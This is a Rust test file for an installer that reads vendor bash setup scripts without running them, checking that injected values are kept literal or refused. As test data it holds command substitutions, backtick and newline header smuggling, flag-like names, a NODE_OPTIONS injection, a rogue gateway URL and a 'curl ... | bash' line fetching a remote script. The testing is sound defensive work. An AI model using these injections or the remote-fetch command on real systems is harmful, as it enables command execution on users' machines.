//! Setup from the bash script today's Archestra servers answer with: the hand-written
//! fixtures in `fixtures/scripts/` are read (never run), hostile values come out literal or
//! are refused, and a script served as `text/plain` ends in the same files as the
//! equivalent JSON payload.

mod common;

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::path::PathBuf;

use archestra_connect::script::{ScriptError, parse_setup_script};
use archestra_wire::{
    AuthMode, McpSection, PayloadError, Provider, ProxySection, Secret, SetupPayload, SkillsSection,
};
use common::{World, show, stderr};

const ORIGIN: &str = "https://archestra.example.com";
const PASSTHROUGH_KEY: &str =
    "arch_5a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b";

/// A fixture with its placeholders filled in.
fn fixture(name: &str, origin: &str, skills_url: &str) -> String {
    let path = common::root().join("fixtures/scripts").join(name);
    fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .replace("@ORIGIN@", origin)
        .replace("@SKILLS_URL@", skills_url)
}

fn skills_url(origin: &str) -> String {
    format!("{origin}/skills/marketplace.git")
}

fn passthrough_script() -> String {
    fixture("passthrough.sh", ORIGIN, &skills_url(ORIGIN))
}

/// The JSON payload the passthrough fixture stands for.
fn passthrough_payload(origin: &str, skills_url: &str) -> SetupPayload {
    SetupPayload {
        client_id: "claude-code".into(),
        app_name: "Archestra".into(),
        mcp: Some(McpSection {
            server_name: "archestra".into(),
            url: format!("{origin}/v1/mcp/default"),
            legacy_server_names: vec!["archestra_old".into()],
        }),
        proxy: Some(ProxySection {
            auth_mode: AuthMode::ProviderKey,
            provider: Provider::Anthropic,
            url: format!("{origin}/v1/anthropic"),
            virtual_key: None,
            virtual_key_name: None,
            passthrough_virtual_key: Some(Secret::new(PASSTHROUGH_KEY)),
        }),
        skills: Some(SkillsSection {
            clone_url: Secret::new(skills_url),
            marketplace_name: "acme-skills".into(),
            has_skills: true,
            plugin_names: vec!["extra".into()],
        }),
        health_url: None,
    }
}

#[test]
fn the_passthrough_script_yields_its_gateway_proxy_skills_and_ending() {
    let parsed = parse_setup_script(&passthrough_script()).unwrap();
    assert_eq!(
        parsed.payload,
        passthrough_payload(ORIGIN, &skills_url(ORIGIN))
    );
    let ending = parsed.ending.expect("the fixture has an ending");
    assert_eq!(ending.app_name.as_deref(), Some("Archestra"));
    assert_eq!(
        ending.sign_in.unwrap(),
        ["claude", "mcp", "login", "archestra"]
    );
    assert_eq!(
        ending.launch.unwrap(),
        ["claude", "What can you do with my Archestra tools?"]
    );
}

#[test]
fn the_virtual_key_script_yields_virtual_key_mode() {
    let parsed = parse_setup_script(&fixture("virtual-key.sh", ORIGIN, "")).unwrap();
    let proxy = parsed.payload.proxy.unwrap();
    assert_eq!(proxy.auth_mode, AuthMode::VirtualKey);
    assert_eq!(proxy.provider, Provider::Anthropic);
    assert_eq!(proxy.url, format!("{ORIGIN}/v1/anthropic"));
    assert_eq!(
        proxy.virtual_key.unwrap().expose(),
        format!("arch_{}", "0123456789abcdef".repeat(4))
    );
    assert!(proxy.passthrough_virtual_key.is_none());
    let mcp = parsed.payload.mcp.unwrap();
    assert_eq!(mcp.server_name, "archestra");
    assert!(mcp.legacy_server_names.is_empty());
    assert!(parsed.payload.skills.is_none());
}

#[test]
fn the_bedrock_script_yields_the_bedrock_provider() {
    let parsed = parse_setup_script(&fixture("bedrock.sh", ORIGIN, "")).unwrap();
    let proxy = parsed.payload.proxy.unwrap();
    assert_eq!(proxy.provider, Provider::Bedrock);
    assert_eq!(proxy.auth_mode, AuthMode::VirtualKey);
    assert_eq!(proxy.url, format!("{ORIGIN}/v1/bedrock"));
    assert!(parsed.payload.mcp.is_none() && parsed.payload.skills.is_none());
    assert!(parsed.ending.unwrap().sign_in.is_none());
}

#[test]
fn hostile_values_in_the_script_come_out_literal() {
    let marker = PathBuf::from("/tmp/pwned");
    let existed = marker.exists();
    let parsed = parse_setup_script(&fixture("hostile-literal.sh", ORIGIN, "")).unwrap();
    assert_eq!(parsed.payload.app_name, "Acme `id` $(touch /tmp/pwned)");
    let mcp = parsed.payload.mcp.unwrap();
    assert_eq!(mcp.server_name, "acme");
    assert_eq!(mcp.legacy_server_names, ["acme_old"]);
    assert_eq!(
        parsed.ending.unwrap().launch.unwrap()[1],
        "What can you do with my Acme `id` $(touch /tmp/pwned) tools?"
    );
    assert_eq!(marker.exists(), existed, "reading the script ran something");
}

/// What a refused variant must say.
enum Refusal {
    Payload(PayloadError),
    Unexpected { line: usize, says: &'static str },
    Conflict { line: usize },
    Ending,
    Syntax { line: usize },
    NotBash,
}

fn line_of(script: &str, needle: &str) -> usize {
    script
        .lines()
        .position(|l| l.contains(needle))
        .unwrap_or_else(|| panic!("`{needle}` is not in the fixture"))
        + 1
}

#[test]
fn hostile_or_unknown_values_are_refused_with_the_line_and_without_secrets() {
    let base = passthrough_script();
    let marker = tempfile::tempdir().unwrap().path().join("pwned");
    let marker = marker.display().to_string();
    let mcp_url = format!("'{ORIGIN}/v1/mcp/default'");
    let base_url_line = format!("ANTHROPIC_BASE_URL='{ORIGIN}/v1/anthropic'");
    let headers_end = format!("Key: {PASSTHROUGH_KEY}'");
    let add_line = line_of(&base, "cli claude mcp add");
    let env_line = line_of(&base, "ARCHESTRA_SET_ENV_ANTHROPIC_BASE_URL");
    let headers_line = line_of(&base, "ARCHESTRA_APPEND_ANTHROPIC_CUSTOM_HEADERS");
    let ending_line = line_of(&base, "# archestra-ending:");

    let cases: Vec<(&str, String, Refusal)> = vec![
        (
            "a command substitution inside the quoted gateway URL",
            base.replace(&mcp_url, &format!("'{ORIGIN}/v1/mcp/$(touch {marker})'")),
            Refusal::Payload(PayloadError::ShellChar {
                field: "mcp.url".into(),
                ch: '$',
            }),
        ),
        (
            "a command substitution in an unquoted gateway URL",
            base.replace(&mcp_url, &format!("{ORIGIN}/v1/mcp/$(touch {marker})")),
            Refusal::Unexpected {
                line: add_line,
                says: "not a plain quoted value",
            },
        ),
        (
            "backticks inside the quoted proxy URL",
            base.replace(
                &base_url_line,
                &format!("ANTHROPIC_BASE_URL='{ORIGIN}/v1/`touch {marker}`'"),
            ),
            Refusal::Payload(PayloadError::ShellChar {
                field: "proxy.url".into(),
                ch: '`',
            }),
        ),
        (
            "an escaped quote inside the gateway URL",
            base.replace(&mcp_url, &format!("'{ORIGIN}/v1/mcp/it'\\''s'")),
            Refusal::Payload(PayloadError::ShellChar {
                field: "mcp.url".into(),
                ch: '\'',
            }),
        ),
        (
            "a newline inside the proxy URL",
            base.replace(
                &base_url_line,
                &format!("ANTHROPIC_BASE_URL='{ORIGIN}/v1/anthropic\nX-Evil: 1'"),
            ),
            Refusal::Payload(PayloadError::ControlChar {
                field: "proxy.url".into(),
            }),
        ),
        (
            "a newline smuggling a header line of someone else's",
            base.replace(&headers_end, &format!("Key: {PASSTHROUGH_KEY}\n  X-Evil: 1'")),
            Refusal::Unexpected {
                line: headers_line,
                says: "`X-Evil` is not one of Archestra's",
            },
        ),
        (
            "a server name that is a flag",
            base.replace("'archestra'", "'--scope'")
                .replace("\"archestra\"", "\"--scope\""),
            Refusal::Payload(PayloadError::FlagLike {
                field: "mcp.serverName".into(),
            }),
        ),
        (
            "a plugin name that is a flag",
            base.replace("'extra@acme-skills'", "'--force@acme-skills'"),
            Refusal::Payload(PayloadError::FlagLike {
                field: "skills.pluginNames".into(),
            }),
        ),
        (
            "an env key this installer does not know",
            base.replace(
                &base_url_line,
                &format!("{base_url_line}\n  export ARCHESTRA_SET_ENV_NODE_OPTIONS='--require {marker}'"),
            ),
            Refusal::Unexpected {
                line: env_line + 1,
                says: "the env key `NODE_OPTIONS`",
            },
        ),
        (
            "an env key to remove that is not a credential",
            base.replace(
                "ARCHESTRA_REMOVE_VIRTUAL_KEY_ENV='ANTHROPIC_AUTH_TOKEN,ANTHROPIC_API_KEY'",
                "ARCHESTRA_REMOVE_VIRTUAL_KEY_ENV='PATH'",
            ),
            Refusal::Unexpected {
                line: env_line + 1,
                says: "the env key `PATH`",
            },
        ),
        (
            "a value the shell would have to expand",
            base.replace(
                &base_url_line,
                "ANTHROPIC_BASE_URL=\"$ARCHESTRA_URL/v1/anthropic\"",
            ),
            Refusal::Unexpected {
                line: env_line,
                says: "not a plain quoted value",
            },
        ),
        (
            "a second gateway",
            base.replace(
                &format!("{mcp_url}\n"),
                &format!("{mcp_url}\ncli claude mcp add --scope user --transport http 'archestra' 'https://evil.example/mcp'\n"),
            ),
            Refusal::Conflict { line: add_line + 1 },
        ),
        (
            "an `mcp add` of another shape",
            base.replace(
                "cli claude mcp add --scope user --transport http",
                "cli claude mcp add --transport stdio",
            ),
            Refusal::Unexpected {
                line: add_line,
                says: "shape this installer does not know",
            },
        ),
        (
            "a virtual-key header that holds no Archestra key",
            base.replace(PASSTHROUGH_KEY, "sk-ant-api03-not-ours-0000000000000000"),
            Refusal::Payload(PayloadError::BadKey {
                field: "proxy.passthroughVirtualKey".into(),
            }),
        ),
        (
            "an ending that is not base64",
            base.replace("# archestra-ending: eyJ", "# archestra-ending: !!eyJ"),
            Refusal::Ending,
        ),
        (
            "a quote that never ends",
            format!("{base}echo 'cut off\n"),
            Refusal::Syntax {
                line: base.lines().count() + 1,
            },
        ),
        (
            "a quote shifted so that the gateway URL swallows the next lines",
            base.replace(&mcp_url, &format!("'{ORIGIN}/v1/mcp/default")),
            Refusal::Unexpected {
                line: add_line,
                says: "shape this installer does not know",
            },
        ),
        (
            "a script without its shebang",
            base.replacen("#!/usr/bin/env bash\n", "", 1),
            Refusal::NotBash,
        ),
    ];

    for (what, script, expected) in cases {
        let err = match parse_setup_script(&script) {
            Ok(parsed) => panic!("{what}: accepted as {:?}", parsed.payload),
            Err(err) => err,
        };
        let text = err.to_string();
        match (&err, &expected) {
            (ScriptError::Invalid(got), Refusal::Payload(want)) => assert_eq!(got, want, "{what}"),
            (ScriptError::Unexpected { line, .. }, Refusal::Unexpected { line: want, says }) => {
                assert_eq!(line, want, "{what}: {text}");
                assert!(text.contains(says), "{what}: {text}");
            }
            (ScriptError::Conflict { line, .. }, Refusal::Conflict { line: want }) => {
                assert_eq!(line, want, "{what}: {text}")
            }
            (ScriptError::BadEnding { line, .. }, Refusal::Ending) => {
                assert_eq!(*line, ending_line, "{what}: {text}")
            }
            (ScriptError::Syntax { line, .. }, Refusal::Syntax { line: want }) => {
                assert_eq!(line, want, "{what}: {text}")
            }
            (ScriptError::NotBash, Refusal::NotBash) => {}
            _ => panic!("{what}: refused for another reason: {text}"),
        }
        assert!(
            !text.contains(&PASSTHROUGH_KEY[5..]) && !text.contains("evil.example"),
            "{what}: the message shows a value: {text}"
        );
    }
    assert!(
        !std::path::Path::new(&marker).exists(),
        "reading a script ran something"
    );
}

// ---------------------------------------------------------------------------------------
// End to end: the same setup served as a script and as JSON.

/// One fixed answer: path, content type, body.
type Answer = (String, &'static str, String);

/// Serve fixed answers on 127.0.0.1 from a thread; `answers` gets the server's origin, so
/// the bodies can point back at it.
fn serve(answers: impl FnOnce(&str) -> Vec<Answer>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let answers = answers(&origin);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            if reader.read_line(&mut request_line).is_err() {
                continue;
            }
            loop {
                let mut header = String::new();
                match reader.read_line(&mut header) {
                    Ok(0) | Err(_) => break,
                    Ok(_) if header == "\r\n" => break,
                    Ok(_) => {}
                }
            }
            let path = request_line.split_whitespace().nth(1).unwrap_or("");
            let (status, content_type, body) = match answers.iter().find(|(p, _, _)| p == path) {
                Some((_, ct, body)) => ("200 OK", *ct, body.clone()),
                None => (
                    "404 Not Found",
                    "application/json",
                    r#"{"error":{"type":"not_found_error","message":"unknown setup token"}}"#
                        .to_string(),
                ),
            };
            let _ = write!(
                stream,
                "HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    origin
}

fn token(fill: char) -> String {
    format!("archestra_con_{}", fill.to_string().repeat(32))
}

#[test]
fn setup_from_a_script_ends_in_the_same_files_as_setup_from_json() {
    let by_script = World::new();
    let by_json = World::new();
    let git = common::git_http::GitServer::start(
        &common::root().join("fixtures/marketplace"),
        &by_script.dir.path().join("git"),
    );

    // Both answers come from one server, so every URL in them is the same.
    let script_path = format!("/api/connection-setups/script/{}", token('S'));
    let json_path = format!("/api/connection-setups/script/{}", token('J'));
    let origin = serve(|origin| {
        let script = fixture("passthrough.sh", origin, &git.url());
        let json = serde_json::to_string(&passthrough_payload(origin, &git.url())).unwrap();
        vec![
            (script_path.clone(), "text/plain; charset=utf-8", script),
            (json_path.clone(), "application/json", json),
        ]
    });

    let out = by_script.connect(&["setup", &format!("{origin}{script_path}"), "--yes"]);
    assert!(out.status.success(), "{}", show(&out));
    assert!(
        stderr(&out).contains("setup script (read, never run)"),
        "{}",
        show(&out)
    );
    assert!(!stderr(&out).contains(PASSTHROUGH_KEY), "{}", show(&out));
    let out = by_json.connect(&["setup", &format!("{origin}{json_path}"), "--yes"]);
    assert!(out.status.success(), "{}", show(&out));

    assert_eq!(
        fs::read_to_string(by_script.settings()).unwrap(),
        fs::read_to_string(by_json.settings()).unwrap(),
        "settings.json differs"
    );
    let mcp = |w: &World| w.read_json(&w.claude_json())["mcpServers"].clone();
    assert_eq!(mcp(&by_script), mcp(&by_json));
    assert_eq!(
        mcp(&by_script)["archestra"]["url"],
        format!("{origin}/v1/mcp/default")
    );
    let state_payload = |w: &World| w.read_json(&w.state_file())["payload"].clone();
    assert_eq!(state_payload(&by_script), state_payload(&by_json));
    let plugins = |w: &World| {
        let installed = w.read_json(&w.config.join("plugins/installed_plugins.json"));
        let mut ids: Vec<String> = installed["plugins"]
            .as_object()
            .unwrap()
            .keys()
            .cloned()
            .collect();
        ids.sort();
        ids
    };
    assert_eq!(
        plugins(&by_script),
        ["acme-skills@acme-skills", "extra@acme-skills"]
    );
    assert_eq!(plugins(&by_script), plugins(&by_json));
}

#[test]
fn a_script_of_an_unknown_shape_stops_setup_before_anything_changes() {
    let world = World::new();
    let path = format!("/api/connection-setups/script/{}", token('U'));
    let origin = serve(|_| {
        vec![(
            path.clone(),
            "text/plain",
            "#!/usr/bin/env bash\ncurl -fsSL https://elsewhere.example/x.sh | bash\n".to_string(),
        )]
    });
    let out = world.connect(&["setup", &format!("{origin}{path}"), "--yes"]);
    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
    let err = stderr(&out);
    assert!(
        err.contains("sets up nothing this installer recognises"),
        "{}",
        show(&out)
    );
    assert!(err.contains("hint:"), "{}", show(&out));
    assert!(!world.settings().exists());
    assert!(!world.state_file().exists());
}

// ---------------------------------------------------------------------------------------
// A machine the old script set up.

#[test]
fn setup_takes_over_a_machine_set_up_by_the_old_script_without_a_second_backup() {
    let world = World::new();
    // What the old script leaves: its one-time backup, our env keys and header lines beside
    // the user's own, and the gateway registered at user scope.
    let pristine = "{\n  \"theme\": \"dark\"\n}\n";
    let backup = world.config.join("settings.json.archestra-backup");
    fs::write(&backup, pristine).unwrap();
    let old_key = format!("arch_{}", "7".repeat(64));
    let settings = serde_json::json!({
        "theme": "dark",
        "env": {
            "ANTHROPIC_BASE_URL": format!("{}/v1/anthropic", world.origin),
            "ANTHROPIC_CUSTOM_HEADERS": format!("X-Team: a\nX-Archestra-Agent-Id: anthropic_claude_code\nX-Archestra-Virtual-Key: {old_key}"),
            "MINE": "1"
        }
    });
    fs::write(
        world.settings(),
        serde_json::to_string_pretty(&settings).unwrap(),
    )
    .unwrap();
    let old_url = format!("{}/v1/mcp/old-gateway", world.origin);
    let add = world.claude(&[
        "mcp",
        "add",
        "--scope",
        "user",
        "--transport",
        "http",
        "archestra",
        &old_url,
    ]);
    assert!(add.status.success(), "{}", show(&add));
    let out = world.connect(&["status"]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("by the old setup script"),
        "{}",
        show(&out)
    );

    let link = world.mint(&common::passthrough(&world.origin));
    let out = world.connect(&["setup", &link, "--yes"]);
    assert!(out.status.success(), "{}", show(&out));

    // The old backup is the one kept, untouched; no second copy of settings.json appears.
    assert_eq!(fs::read_to_string(&backup).unwrap(), pristine);
    let backups: Vec<String> = fs::read_dir(&world.config)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with("settings.json") && name != "settings.json")
        .collect();
    assert_eq!(backups, ["settings.json.archestra-backup"]);

    // Our header lines are replaced, not added a second time; the user's stay.
    let after = world.read_json(&world.settings());
    let headers = after["env"]["ANTHROPIC_CUSTOM_HEADERS"].as_str().unwrap();
    let lines: Vec<&str> = headers.lines().collect();
    assert_eq!(lines.len(), 3, "{headers}");
    assert_eq!(lines[0], "X-Team: a");
    assert_eq!(lines[1], "X-Archestra-Agent-Id: anthropic_claude_code");
    assert!(
        lines[2].starts_with("X-Archestra-Virtual-Key: arch_"),
        "{headers}"
    );
    assert!(!headers.contains(&old_key), "{headers}");
    assert_eq!(after["env"]["MINE"], "1");
    assert_eq!(after["theme"], "dark");

    // The gateway the old script registered is replaced by this setup's.
    let servers = world.read_json(&world.claude_json())["mcpServers"].clone();
    assert_eq!(
        servers,
        serde_json::json!({"archestra": {"type": "http", "url": format!("{}/v1/mcp/default", world.origin)}})
    );

    // From now on the machine is this installer's: status reads the state record.
    let out = world.connect(&["status"]);
    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains("by the old setup script"),
        "{}",
        show(&out)
    );
}
